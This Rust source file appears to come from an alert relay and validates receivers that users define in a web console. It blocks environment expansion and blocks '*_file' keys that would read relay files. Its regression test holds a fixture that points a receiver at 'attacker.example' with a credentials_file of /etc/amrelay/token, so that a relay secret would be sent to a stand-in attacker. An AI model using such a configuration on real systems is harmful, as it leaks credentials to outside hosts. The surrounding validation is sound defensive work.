//! Receivers managed in the console: a second YAML file (`--config.console-file`) of the same
//! `receivers:` schema, validated by the same code as the config file's, against the defaults
//! and shared templates of the config file's `delivery:` and `templates:`.
//!
//! The config file stays the source of truth: a name defined in both is an error recorded in
//! [`ConsoleConfig::conflicts`], and the config file's receiver is the one used. The console
//! file is never expanded from the process environment (`${VAR}` is an error there): what a
//! console user types must not be able to read the relay's environment.

use std::path::{Path, PathBuf};

use super::raw::RawConsoleFile;
use super::{Config, ConfigError, DeliveryConfig, Environment, Issue, ReceiverConfig};
use crate::fingerprint::fnv1a;

/// The console file's name in the spool's folder, when no `--config.console-file` is given.
pub const DEFAULT_CONSOLE_FILE: &str = "console-receivers.yml";

/// Where console-managed receivers are kept, or why editing in the console is off.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ConsoleFile {
    At(PathBuf),
    /// The file is read (its receivers run) but cannot be written; the reason.
    ReadOnly(PathBuf, String),
    /// No console file: editing is off; the reason, for the console and the status API.
    Off(String),
}

impl ConsoleFile {
    /// The file, when there is one.
    pub fn path(&self) -> Option<&Path> {
        match self {
            ConsoleFile::At(path) | ConsoleFile::ReadOnly(path, _) => Some(path),
            ConsoleFile::Off(_) => None,
        }
    }

    /// Why the console cannot edit receivers, when it cannot.
    pub fn editing_off(&self) -> Option<&str> {
        match self {
            ConsoleFile::At(_) => None,
            ConsoleFile::ReadOnly(_, why) | ConsoleFile::Off(why) => Some(why),
        }
    }
}

/// Decides the console file from the flag (`None`: not given; an empty path: `''`, off) and the
/// config's spool: by default `console-receivers.yml` beside the spool, so that it lives on the
/// same persistent volume.
pub fn console_file(flag: Option<&Path>, delivery: &DeliveryConfig) -> ConsoleFile {
    match (flag, &delivery.spool) {
        (Some(path), _) if path.as_os_str().is_empty() => {
            ConsoleFile::Off("editing in the console is turned off (--config.console-file='')".into())
        }
        (Some(path), _) => ConsoleFile::At(path.to_owned()),
        (None, Some(spool)) => {
            let folder = spool.path.parent().map(Path::to_owned).unwrap_or_default();
            ConsoleFile::At(folder.join(DEFAULT_CONSOLE_FILE))
        }
        (None, None) => ConsoleFile::Off(
            "editing in the console is off: no delivery.spool.path to keep console-receivers.yml beside, and no \
             --config.console-file"
                .into(),
        ),
    }
}

/// The validated console file.
#[derive(Debug, Clone)]
pub struct ConsoleConfig {
    pub source: PathBuf,
    /// Hash of the file's bytes (of nothing, when the file does not exist yet).
    pub hash: u64,
    /// Its valid receivers whose names the config file does not use.
    pub receivers: Vec<ReceiverConfig>,
    /// Receivers skipped because the config file defines the same name.
    pub conflicts: Vec<Issue>,
    pub referenced_files: Vec<PathBuf>,
    pub warnings: Vec<Issue>,
}

/// `*_file` keys whose file's content would be sent to the receiver (credentials, tokens,
/// preset secrets, `url_file`), as field paths. Receivers edited in the console must not make
/// the relay read its own files and send them where the editor chooses; the TLS files
/// (`ca_file`, `cert_file`, `key_file`) are only used for the handshake and stay allowed.
fn relay_files(text: &str) -> Vec<String> {
    fn walk(value: &serde_json::Value, at: &str, out: &mut Vec<String>) {
        match value {
            serde_json::Value::Object(map) => {
                for (key, inner) in map {
                    let field = if at.is_empty() { key.clone() } else { format!("{at}.{key}") };
                    if key.ends_with("_file") && !matches!(key.as_str(), "ca_file" | "cert_file" | "key_file") {
                        out.push(field.clone());
                    }
                    walk(inner, &field, out);
                }
            }
            serde_json::Value::Array(items) => {
                for (index, inner) in items.iter().enumerate() {
                    walk(inner, &format!("{at}[{index}]"), out);
                }
            }
            _ => {}
        }
    }
    let mut out = Vec::new();
    if let Ok(value) = serde_saphyr::from_str::<serde_json::Value>(text) {
        walk(&value, "", &mut out);
    }
    out
}

/// Reads and validates the console file; a file that does not exist yet has no receivers.
pub fn load_console(path: &Path, main: &Config) -> Result<ConsoleConfig, ConfigError> {
    let fail = |message: String| ConfigError {
        file: path.to_owned(),
        issues: vec![Issue { position: None, field: String::new(), message }],
    };
    let bytes = match std::fs::read(path) {
        Ok(bytes) => bytes,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Vec::new(),
        Err(e) => return Err(fail(format!("cannot read file: {e}"))),
    };
    let text = String::from_utf8(bytes).map_err(|_| fail("file is not valid UTF-8".into()))?;
    console_from_str(&text, path, main)
}

/// Parses and validates console-file text as if read from `path`, for the config `main`.
pub fn console_from_str(text: &str, path: &Path, main: &Config) -> Result<ConsoleConfig, ConfigError> {
    let base_dir = path.parent().map(Path::to_owned).unwrap_or_default();
    let environment = Environment::empty();
    let raw: RawConsoleFile = if text.trim().is_empty() {
        RawConsoleFile::default()
    } else {
        serde_saphyr::from_str_with_options(text, super::parse_options(&environment))
            .map_err(|e| super::parse_error(path, &e))?
    };
    let mut issues = super::issues::Issues::new(&base_dir, text);
    for field in relay_files(text) {
        issues.list.push(Issue {
            position: None,
            field,
            message: "a console receiver cannot name a file on the relay (a secret there would be sent \
                      wherever the receiver points): type the secret itself, or define the receiver in the config file"
                .into(),
        });
    }
    if !issues.list.is_empty() {
        return Err(ConfigError { file: path.to_owned(), issues: issues.list });
    }
    let receivers = super::validate::receivers(&mut issues, &raw.receivers, &main.receiver_defaults, &environment);
    if !issues.list.is_empty() {
        return Err(ConfigError { file: path.to_owned(), issues: issues.list });
    }
    let mut conflicts = Vec::new();
    let mut kept = Vec::with_capacity(receivers.len());
    // No issues: every raw receiver gave one, in order.
    for (index, (receiver, spanned)) in receivers.into_iter().zip(&raw.receivers).enumerate() {
        if main.receivers.iter().any(|r| r.name == receiver.name) {
            let at = &spanned.referenced;
            conflicts.push(Issue {
                position: (at.line() > 0).then(|| (at.line(), at.column())),
                field: format!("receivers[{index}].name"),
                message: format!(
                    "{:?} is also defined in {}: the config file's receiver is used and this one is skipped",
                    receiver.name,
                    main.source.display()
                ),
            });
        } else {
            kept.push(receiver);
        }
    }
    Ok(ConsoleConfig {
        source: path.to_owned(),
        hash: fnv1a(text.as_bytes()),
        receivers: kept,
        conflicts,
        referenced_files: issues.files,
        warnings: issues.warnings,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn main_config(text: &str) -> Config {
        super::super::from_str(text, Path::new("/nonexistent/amrelay.yml"), &Environment::empty()).unwrap()
    }

    const CONSOLE: &str = "/nonexistent/console-receivers.yml";

    #[test]
    fn console_receivers_get_the_config_files_defaults() {
        let main = main_config("delivery: {timeout: 3s, queue_capacity: 7}\nreceivers: []\n");
        let console = console_from_str(
            "receivers:\n  - {name: c, url: 'http://127.0.0.1:1/', enabled: false}\n",
            Path::new(CONSOLE),
            &main,
        )
        .unwrap();
        let receiver = &console.receivers[0];
        assert_eq!((receiver.queue_capacity, receiver.endpoint.timeout.as_secs()), (7, 3));
        assert!(!receiver.enabled);
    }

    /// Regression (review): a console receiver naming a relay file as its bearer token sent that
    /// file's content to the URL the editor chose.
    #[test]
    fn console_receivers_cannot_read_the_relays_files() {
        let main = main_config("receivers: []\n");
        for (text, field) in [
            (
                "receivers:\n  - name: c\n    url: 'https://attacker.example/'\n    http_config:\n      authorization: {credentials_file: /etc/amrelay/token}\n",
                "receivers[0].http_config.authorization.credentials_file",
            ),
            ("receivers:\n  - {name: c, url_file: /etc/amrelay/url}\n", "receivers[0].url_file"),
            (
                "receivers:\n  - {name: c, url: 'https://x.example/', preset: pagerduty, preset_options: {routing_key_file: /k}}\n",
                "receivers[0].preset_options.routing_key_file",
            ),
        ] {
            let error = console_from_str(text, Path::new(CONSOLE), &main).unwrap_err();
            assert_eq!(error.issues[0].field, field, "{error}");
            assert!(error.to_string().contains("cannot name a file on the relay"), "{error}");
        }
        let tls = "receivers:\n  - name: c\n    url: 'https://x.example/'\n    http_config: {tls_config: {ca_file: /nonexistent/ca.pem}}\n";
        let error = console_from_str(tls, Path::new(CONSOLE), &main).unwrap_err().to_string();
        assert!(!error.contains("cannot name a file"), "a CA file stays allowed: {error}");
    }

    #[test]
    fn a_name_in_both_files_is_skipped_with_the_error_recorded() {
        let main = main_config("receivers:\n  - {name: ops, url: 'http://127.0.0.1:1/'}\n");
        let text =
            "receivers:\n  - {name: other, url: 'http://127.0.0.1:2/'}\n  - {name: ops, url: 'http://127.0.0.1:3/'}\n";
        let console = console_from_str(text, Path::new(CONSOLE), &main).unwrap();
        assert_eq!(console.receivers.iter().map(|r| r.name.as_str()).collect::<Vec<_>>(), ["other"]);
        assert_eq!(console.conflicts.len(), 1);
        assert_eq!(console.conflicts[0].field, "receivers[1].name");
        assert_eq!(console.conflicts[0].position.map(|p| p.0), Some(3));
    }

    #[test]
    fn errors_name_their_fields_as_check_config_does() {
        let main = main_config("receivers: []\n");
        let text = "receivers:\n  - name: c\n    url: 'http://127.0.0.1:1/'\n    conditions:\n      - {label: severity, operator: In, values: []}\n";
        let error = console_from_str(text, Path::new(CONSOLE), &main).unwrap_err();
        assert_eq!(error.issues[0].field, "receivers[0].conditions[0].values", "{error}");
        // Only receivers: the rest of the schema belongs to the config file.
        let error = console_from_str("server: {listen_address: ':1'}\n", Path::new(CONSOLE), &main).unwrap_err();
        assert!(error.to_string().contains("server"), "{error}");
    }

    #[test]
    fn the_console_file_never_reads_the_environment() {
        let main = main_config("receivers: []\n");
        let text = "receivers:\n  - name: c\n    url: http://127.0.0.1:1/\n    headers:\n      X-Key: ${HOME}\n";
        let error = console_from_str(text, Path::new(CONSOLE), &main).unwrap_err();
        assert!(error.to_string().contains("HOME"), "{error}");
    }

    #[test]
    fn the_file_is_beside_the_spool_unless_a_flag_says_otherwise() {
        let spooled = main_config("delivery: {spool: {path: /var/lib/amrelay/spool.redb}}\n").delivery;
        let memory = main_config("receivers: []\n").delivery;
        assert_eq!(
            console_file(None, &spooled),
            ConsoleFile::At(PathBuf::from("/var/lib/amrelay/console-receivers.yml"))
        );
        assert!(matches!(console_file(None, &memory), ConsoleFile::Off(_)));
        assert!(matches!(console_file(Some(Path::new("")), &spooled), ConsoleFile::Off(_)));
        assert_eq!(console_file(Some(Path::new("/etc/c.yml")), &memory), ConsoleFile::At(PathBuf::from("/etc/c.yml")));
    }
}
